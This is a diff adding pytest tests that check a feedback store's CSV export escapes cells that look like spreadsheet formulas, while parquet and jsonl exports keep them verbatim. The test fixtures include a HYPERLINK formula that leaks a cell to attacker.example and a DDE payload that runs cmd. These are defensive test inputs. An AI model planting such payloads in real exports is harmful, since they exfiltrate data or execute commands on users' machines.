@@ -131,3 +131,62 @@ def test_export_can_keep_one_kind_of_verdict(tmp_path):
     assert exported["row_id"].astype(str).tolist() == ["2"]
     with pytest.raises(feedback_store.InvalidVerdict):
         store.export(tmp_path / "x.csv", format="csv", verdict="maybe")
+
+
+FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click me")'
+
+
+@pytest.fixture
+def hostile_store(tmp_path):
+    store = feedback_store.open(tmp_path / "hostile")
+    store.record(
+        sprint="S1", prototype="gbm", row_id="1", reviewer="ana", verdict="wrong",
+        corrected_label="-1", comment=FORMULA, tags=["-sensor", "ok"],
+        features={"note": "@SUM(A1)", "tabbed": "\tcmd", "returned": "\rcmd", "plus": "+1+2",
+                  "minus": "-2+3", "negative text": "-1.5e3", "delta": -3.5, "count": -2},
+        prediction={"label": "=1+1", "confidence": 0.5},
+    )  # fmt: skip
+    store.record(sprint="S1", prototype="gbm", row_id="2", reviewer="bo", verdict="correct",
+                 comment="plain = not first", features={"note": "fine", "delta": 1.0})  # fmt: skip
+    return store
+
+
+def test_csv_cells_that_start_like_a_formula_get_an_apostrophe(hostile_store, tmp_path):
+    frame = pd.read_csv(
+        hostile_store.export(tmp_path / "out.csv", format="csv"),
+        dtype={"corrected_label": str, "negative text": str},
+        lineterminator="\n",  # Python's csv module leaves a lone "\r" in a cell unquoted
+    ).set_index("row_id")
+    ana = frame.loc[1]
+    assert ana["comment"] == "'" + FORMULA
+    assert ana["tags"] == "'-sensor;ok"
+    assert ana["predicted_label"] == "'=1+1"
+    assert (ana["note"], ana["tabbed"], ana["returned"]) == ("'@SUM(A1)", "'\tcmd", "'\rcmd")
+    assert (ana["plus"], ana["minus"]) == ("'+1+2", "'-2+3")
+    # Numbers, whether in numeric columns or written as text, are left as they are.
+    assert (ana["corrected_label"], ana["negative text"]) == ("-1", "-1.5e3")
+    assert (ana["delta"], ana["count"]) == (-3.5, -2)
+    assert frame.loc[2, "comment"] == "plain = not first"
+    assert frame.loc[2, "note"] == "fine"
+
+
+@pytest.mark.parametrize("fmt", ["parquet", "jsonl"])
+def test_parquet_and_jsonl_keep_formula_like_text_verbatim(hostile_store, tmp_path, fmt):
+    frame = read(hostile_store.export(tmp_path / f"out.{fmt}", format=fmt), fmt)
+    ana = frame.set_index("row_id").loc["1"]
+    assert ana["comment"] == FORMULA
+    assert list(ana["tags"]) == ["-sensor", "ok"]
+    assert (ana["note"], ana["tabbed"], ana["plus"]) == ("@SUM(A1)", "\tcmd", "+1+2")
+    assert ana["predicted_label"] == "=1+1"
+
+
+def test_training_csv_guards_text_features_but_not_labels_that_are_numbers(tmp_path):
+    store = feedback_store.open(tmp_path / "training")
+    features = {"Type": "=cmd|' /C calc'!A0", "x": -1.5}
+    store.record(sprint="S", prototype="p", row_id="1", reviewer="ana", verdict="wrong",
+                 corrected_label="-1", features=features)  # fmt: skip
+    path, _ = store.export_training(tmp_path / "train.csv", format="csv")
+    frame = pd.read_csv(path, dtype={"label": str})
+    assert frame[["Type", "x", "label"]].values.tolist() == [["'=cmd|' /C calc'!A0", -1.5, "-1"]]
+    parquet, _ = store.export_training(tmp_path / "train.parquet", format="parquet")
+    assert pd.read_parquet(parquet)["Type"].tolist() == ["=cmd|' /C calc'!A0"]
